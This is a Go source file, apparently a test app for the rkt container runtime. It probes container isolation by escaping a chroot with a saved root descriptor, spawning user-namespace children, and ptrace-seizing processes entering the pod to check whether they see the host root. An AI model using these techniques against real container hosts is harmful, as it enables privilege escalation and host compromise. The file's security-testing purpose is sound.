package main

import (
	"fmt"
	"os"
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

// elude keeps processes in the app's root that are about to make a user namespace of their own, in
// which they have every capability. Who looks at the oldest process of the app twice may see it
// before and after that. It is itself in another root, so that nobody takes it.
func elude() {
	root, err := os.Open("/")
	check(err)
	check(os.MkdirAll("/tmp/elsewhere", 0o755))
	check(syscall.Chroot("/tmp/elsewhere"))
	check(syscall.Chdir("/"))
	e := &eluder{root: root.Fd(), dot: &[]byte(".\x00")[0]}
	e.before.Nsec, e.after.Sec = 40e6, 3600
	fmt.Println("eluding")
	for range 1000 {
		_, errno := e.fork()
		check(result(errno))
		time.Sleep(4 * time.Millisecond)
	}
	time.Sleep(time.Hour)
}

type eluder struct {
	root          uintptr
	dot           *byte
	before, after syscall.Timespec
}

//go:norace
//go:nosplit
func (e *eluder) fork() (uintptr, syscall.Errno) {
	pid, _, errno := syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	if pid != 0 || errno != 0 {
		return pid, errno
	}
	syscall.RawSyscall(syscall.SYS_FCHDIR, e.root, 0, 0)
	syscall.RawSyscall(syscall.SYS_CHROOT, uintptr(unsafe.Pointer(e.dot)), 0, 0)
	syscall.RawSyscall(syscall.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&e.before)), 0, 0)
	syscall.RawSyscall(syscall.SYS_UNSHARE, newUser, 0, 0)
	syscall.RawSyscall(syscall.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&e.after)), 0, 0)
	for {
		syscall.RawSyscall(syscall.SYS_EXIT_GROUP, 0, 0, 0)
	}
}

const (
	ptraceSeize     = 0x4206
	ptraceInterrupt = 0x4207
)

// seize attaches itself to every process that appears in the pod, as soon as the kernel lets it,
// and says what that was: its user, what capabilities it can have, whether it is rkt-enter still,
// and whether its root directory has the file MARK, which is the host's.
func seize(mark string) {
	runtime.LockOSThread()
	trace := func(request, pid int) syscall.Errno {
		_, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, uintptr(request), uintptr(pid), 0, 0, 0, 0)
		return errno
	}
	probe, err := os.StartProcess("/proc/self/exe", []string{"testapp", "end", "0"}, &os.ProcAttr{})
	check(err)
	base := probe.Pid + 1
	probe.Wait()
	fmt.Println("seizing")
	for {
		for pid := base; pid < base+32; pid++ {
			errno := trace(ptraceSeize, pid)
			if errno == syscall.ESRCH {
				continue
			}
			base = max(base, pid-12)
			if errno != 0 {
				continue
			}
			trace(ptraceInterrupt, pid)
			var status syscall.WaitStatus
			if _, err := syscall.Wait4(pid, &status, syscall.WALL, nil); err != nil || !status.Stopped() {
				continue
			}
			fmt.Println("seized", seen(pid, mark))
			trace(syscall.PTRACE_DETACH, pid)
			base = max(base, pid+1)
		}
	}
}

func seen(pid int, mark string) string {
	said := ""
	for line := range lines(fmt.Sprintf("/proc/%d/status", pid)) {
		name, value, _ := strings.Cut(line, ":")
		switch name {
		case "Name", "CapBnd", "CapPrm":
			said += " " + name + "=" + strings.TrimSpace(value)
		case "Uid":
			said += " " + name + "=" + strings.Fields(value)[1]
		}
	}
	exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	if strings.Contains(exe, "memfd:rkt-enter") { // it has not executed the command yet
		said += " exe=rkt-enter"
	}
	root := "app"
	if _, err := os.Stat(fmt.Sprintf("/proc/%d/root%s", pid, mark)); err == nil {
		root = "host"
	}
	return said + " root=" + root
}
